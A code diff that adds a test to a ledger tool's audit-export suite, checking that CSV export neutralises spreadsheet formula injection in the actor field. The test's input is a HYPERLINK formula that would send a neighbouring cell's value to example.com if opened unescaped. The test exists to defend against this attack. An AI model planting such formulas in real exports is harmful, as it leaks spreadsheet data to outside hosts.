@@ -539,6 +539,29 @@ describe('R40: ledger audit export as a process', () => {
     expect(stats.projectors).toEqual([{ projector: 'read-models', checkpoint, lagPositions: 0 }]);
   });
 
+  it('writes a cell that a spreadsheet would take for a formula (an --actor beginning with =) as text', () => {
+    const formula = '=HYPERLINK("http://example.com/?"&B2,"open")';
+    const recorded = ledger([
+      'audit',
+      'export',
+      '--data-dir',
+      dataDirectory,
+      ...period,
+      ...['--include-restricted', '--reason', 'court order 2026-7 for the formula test', '--actor', formula],
+    ]);
+    expect(recorded.status).toBe(0);
+    // The export is recorded today: today's rows hold its actor.
+    const today = new Date(Date.now() + 9 * hour).toISOString().slice(0, 10);
+    const run = exportOf('123455', today, today, '--format', 'csv');
+    expect(run.status).toBe(0);
+    const formulaRows = run.stdout.split('\n').filter((line) => line.includes('HYPERLINK'));
+    expect(formulaRows.length).toBeGreaterThan(0);
+    for (const row of formulaRows) {
+      expect(row).toContain(`"'=HYPERLINK(`);
+      expect(row).not.toMatch(/(^|,)"?=HYPERLINK/);
+    }
+  });
+
   it('writes CSV with a header, one line per row', () => {
     const run = ledger(['audit', 'export', '--data-dir', dataDirectory, ...period, '--format', 'csv']);
     expect(run.status).toBe(0);
